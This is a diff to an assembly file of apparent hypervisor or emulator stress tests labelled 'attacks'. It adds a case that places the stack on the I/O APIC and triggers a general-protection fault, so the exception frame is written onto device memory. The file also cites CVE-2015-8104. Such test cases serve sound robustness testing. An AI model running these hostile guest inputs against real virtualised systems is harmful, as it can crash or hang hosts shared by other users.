@@ -40,6 +40,7 @@ attacks:
 	dq	name_tables, tables
 	dq	name_sse, sse
 	dq	name_push, push_mmio
+	dq	name_event, event_on_device
 	dq	name_db, db_loop
 	dq	name_rep, rep_huge
 	dq	name_hog, hog
@@ -57,6 +58,7 @@ name_screen:	db "text-screen", 0
 name_tables:	db "tables-outside-ram", 0
 name_sse:	db "sse-to-device", 0
 name_push:	db "stack-on-device", 0
+name_event:	db "event-on-device", 0
 name_db:	db "db-loop", 0
 name_rep:	db "rep-huge", 0
 name_hog:	db "hog", 0
@@ -106,6 +108,13 @@ sse:
 push_mmio:				; the processor itself writes there, while it delivers an exception
 	mov	esp, NOT_A_DEVICE + 0x800
 	int3
+	jmp	$
+
+; #GP with its frame on the I/O APIC: SS is pushed at the offset at which the instruction itself would have written.
+event_on_device:
+	mov	esp, 0xfec00010
+	mov	rbx, 0x8000000000000008
+	mov	[rbx], rax
 	jmp	$
 
 ; A breakpoint on the very stack that #DB's frame goes to, always the same one: IST (CVE-2015-8104).
